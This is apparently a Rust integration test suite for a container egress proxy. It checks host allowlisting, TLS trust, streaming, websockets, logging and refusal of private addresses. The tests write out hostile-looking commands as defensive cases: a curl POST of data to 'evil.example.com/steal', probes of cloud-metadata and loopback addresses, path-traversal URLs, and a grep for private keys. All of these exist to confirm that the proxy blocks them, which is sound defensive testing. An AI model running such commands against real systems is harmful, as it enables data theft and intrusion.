//! What goes through the door, as real clients in a real container see it.

use std::{
    fs,
    io::{BufRead, BufReader},
    time::Instant,
};

use origin::Origin;
use serde_json::Value;

use crate::setup::{BUSYBOX, DEBIAN, Run, on_every_engine};

on_every_engine! {
    fn an_allowed_host_is_reached_over_tls(setup) {
        let origin = Origin::start(&["api.example.com"]);
        let run = Run::new(setup).image(DEBIAN).origin(&origin, &["api.example.com"])
            .sh("for version in --http1.1 --http2; do curl -sS $version https://api.example.com/echo; done");
        let ended = run.succeed();
        let answers: Vec<Value> = ended.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(answers.len(), 2, "{ended:?}");
        assert!(answers.iter().all(|answer| answer["method"] == "GET"));
        let log = run.network_log();
        assert_eq!(log.matches("ALLOWED GET https://api.example.com/echo -> 200").count(), 2, "{log}");
        assert!(log.contains("DNS A api.example.com -> 127.77.0.1"), "{log}");
    }

    fn a_host_that_is_not_listed_is_refused_with_the_reason_and_never_dialled(setup) {
        let origin = Origin::start(&["evil.example.com"]);
        let run = Run::new(setup).image(DEBIAN).origin(&origin, &["api.example.com"])
            .sh("curl -sS -w '\\n%{http_code}\\n' https://evil.example.com/steal?x=1 -d data");
        let ended = run.succeed();
        let (body, code) = ended.stdout.trim().rsplit_once('\n').unwrap();
        assert_eq!(code, "403");
        let body: Value = serde_json::from_str(body).unwrap();
        assert_eq!(body["error"], "blocked_by_network_allowlist", "{body}");
        assert_eq!(body["host"], "evil.example.com");
        assert!(body.to_string().contains("domains"), "it says how to allow it: {body}");
        assert_eq!(origin.connections(), 0);
        let log = run.network_log();
        assert!(log.contains("BLOCKED POST https://evil.example.com/steal?x=1 -> 403"), "{log}");
    }

    fn without_an_allowlist_nothing_is_reached(setup) {
        let origin = Origin::start(&["api.example.com"]);
        let run = Run::new(setup).image(DEBIAN).origin_with(&origin, "")
            .sh("curl -s -o /dev/null -w '%{http_code}' https://api.example.com/");
        assert_eq!(run.succeed().stdout, "403");
        assert_eq!(origin.connections(), 0);
    }

    fn every_common_client_trusts_the_door(setup) {
        let origin = Origin::start(&["api.example.com"]);
        let script = r#"
set -e
curl -sSf https://api.example.com/ && env -i /usr/bin/curl -sSf https://api.example.com/
python3 -c 'import urllib.request as u; print(u.urlopen("https://api.example.com/").read().decode(), end="")'
node -e 'require("https").get("https://api.example.com/", r => r.pipe(process.stdout))'
openssl s_client -connect api.example.com:443 -servername api.example.com -verify_return_error </dev/null 2>/dev/null | grep -c 'Verify return code: 0'
git ls-remote https://api.example.com/repo 2>&1 | grep -c 'not found\|not valid\|unable to access.*40' || true
"#;
        let ended = Run::new(setup).image(DEBIAN).origin(&origin, &["api.example.com"]).sh(script).succeed();
        assert_eq!(ended.stdout.matches("hello from outside").count(), 4, "{ended:?}");
        assert!(ended.stdout.contains("\n1\n"), "{ended:?}");
        assert!(!ended.stdout.contains("certificate"), "{ended:?}");
    }

    fn busybox_resolves_and_fetches(setup) {
        let origin = Origin::start(&["api.example.com"]);
        let run = Run::new(setup).image(BUSYBOX).origin(&origin, &["api.example.com"])
            .sh("wget -q -O - http://api.example.com/");
        assert_eq!(run.succeed().stdout, "hello from outside\n");
    }

    fn server_sent_events_arrive_one_by_one(setup) {
        let origin = Origin::start(&["api.example.com"]);
        let mut running = Run::new(setup).image(DEBIAN).origin(&origin, &["api.example.com"])
            .sh("curl -sSN 'https://api.example.com/events?count=4&pause=700'").start();
        let lines = BufReader::new(running.child.stdout.take().unwrap()).lines();
        let times: Vec<_> = lines.map_while(Result::ok).filter(|line| line.starts_with("data:")).map(|_| Instant::now()).collect();
        assert_eq!(running.end().code, 0);
        assert_eq!(times.len(), 4);
        for pair in times.windows(2) {
            let gap = pair[1] - pair[0];
            assert!(gap.as_millis() > 300, "events came together: {gap:?}");
        }
    }

    fn a_websocket_passes(setup) {
        let origin = Origin::start(&["api.example.com"]);
        let script = r#"
import socket, ssl
s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.example.com", 443)), server_hostname="api.example.com")
s.sendall(b"GET /websocket HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head: head += s.recv(1)
assert b"101" in head.split(b"\r\n")[0] and b"s3pPLMBiTxaQ9kYGzzhZRbK+xOo=" in head, head
mask = b"\x01\x02\x03\x04"
s.sendall(b"\x81" + bytes([0x80 | 5]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(b"hello")))
answer = b""
while len(answer) < 7: answer += s.recv(64)
print(answer)
"#;
        let ended = Run::new(setup).image(DEBIAN).origin(&origin, &["api.example.com"]).command(["python3", "-c", script]).succeed();
        assert_eq!(ended.stdout, "b'\\x81\\x05hello'\n", "{ended:?}");
    }

    fn methods_and_paths_of_an_entry_hold(setup) {
        let origin = Origin::start(&["api.example.com"]);
        let allowlist = "url_prefixes:\n  - { host: api.example.com, path: /status/*, methods: [GET], private_addresses: true }\n";
        let run = Run::new(setup).image(DEBIAN).origin_with(&origin, allowlist).sh(
            "u=https://api.example.com; for a in '' '-X POST'; do for p in /status/201 /echo /status/../echo /status/%2e%2e/echo; do curl -s --path-as-is -o /dev/null -w '%{http_code} ' $a $u$p; done; done",
        );
        assert_eq!(run.succeed().stdout, "201 403 403 403 403 403 403 403 ");
    }

    fn an_upstream_that_cannot_be_verified_is_a_502_that_says_so(setup) {
        let origin = Origin::start(&["other.example.com"]);
        let run = Run::new(setup).image(DEBIAN).origin(&origin, &["api.example.com", "missing.example.com"])
            .sh("curl -sS -w '\\n%{http_code}\\n' https://api.example.com/; curl -sS -w '\\n%{http_code}\\n' https://missing.example.com/");
        let ended = run.succeed();
        assert_eq!(ended.stdout.matches("\n502\n").count(), 2, "{ended:?}");
        assert!(ended.stdout.contains("certificate"), "{ended:?}");
    }

    fn a_name_that_leads_to_a_private_address_is_refused(setup) {
        let origin = Origin::start(&["*.example.com"]);
        let run = Run::new(setup).image(DEBIAN).origin_with(&origin, "domains: ['*.example.com']\n")
            .sh("for n in api 10-0-0-1 169-254-169-254 127-0-0-1; do curl -s -o /dev/null -w '%{http_code} ' https://$n.example.com/; done");
        assert_eq!(run.succeed().stdout, "403 403 403 403 ");
        assert_eq!(origin.connections(), 0);
    }

    fn the_log_has_one_record_for_each_request_in_both_forms(setup) {
        let origin = Origin::start(&["api.example.com"]);
        let run = Run::new(setup).image(DEBIAN).origin(&origin, &["api.example.com"]).flags(["--network-log-live"])
            .sh("curl -s https://api.example.com/a https://api.example.com/b https://evil.example.com/c -o /dev/null");
        let ended = run.succeed();
        let text = run.network_log();
        let json = fs::read_to_string(run.path("network.jsonl")).unwrap();
        let records: Vec<Value> = json.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        for path in ["api.example.com/a", "api.example.com/b", "evil.example.com/c"] {
            assert_eq!(text.matches(&format!("GET https://{path}")).count(), 1, "{text}");
            let count = records.iter().filter(|record| record["url"] == format!("https://{path}")).count();
            assert_eq!(count, 1, "{json}");
            assert!(ended.stderr.contains(&format!("GET https://{path}")), "{ended:?}");
        }
        let live = ended.stderr.lines().filter(|line| line.starts_with("[net] ")).count();
        assert_eq!(live, records.len(), "{ended:?}");
    }

    fn the_authoritys_key_is_never_on_disk(setup) {
        let origin = Origin::start(&["api.example.com"]);
        let run = Run::new(setup).image(DEBIAN).origin(&origin, &["api.example.com"])
            .sh("cat /.cordon/door/ca.pem; ls /.cordon/door; grep -rl 'PRIVATE KEY' /.cordon /etc/ssl 2>/dev/null || true");
        let ended = run.succeed();
        assert!(ended.stdout.contains("BEGIN CERTIFICATE") && !ended.stdout.contains("PRIVATE KEY"), "{ended:?}");
        assert!(ended.stdout.ends_with("ca.pem\ncacerts.jks\n"), "the socket is gone once it was used: {ended:?}");
    }
}

#[test]
fn two_gibibytes_each_way_keep_memory_below_64_mebibytes() {
    let setup = crate::setup::Setup::Podman;
    let origin = Origin::start(&["api.example.com"]);
    let script = "set -e; n=2147483648; \
        curl -sSf https://api.example.com/bytes?count=$n | wc -c; \
        head -c $n /dev/zero | curl -sSf -X POST -T - https://api.example.com/upload; echo done; sleep 2";
    let mut running = Run::new(setup)
        .image(DEBIAN)
        .origin(&origin, &["api.example.com"])
        .sh(script)
        .start();
    let mut lines = BufReader::new(running.child.stdout.take().unwrap()).lines();
    let said: Vec<_> = lines
        .by_ref()
        .map_while(Result::ok)
        .take_while(|line| line != "done")
        .collect();
    let status = fs::read_to_string(format!("/proc/{}/status", running.pid())).unwrap();
    let peak = status
        .lines()
        .find_map(|line| line.strip_prefix("VmHWM:"))
        .unwrap();
    let peak: u64 = peak.trim().trim_end_matches(" kB").parse().unwrap();
    assert_eq!(said, ["2147483648", "2147483648"]);
    assert!(peak < 64 << 10, "{peak} kB");
    assert_eq!(running.end().code, 0);
}
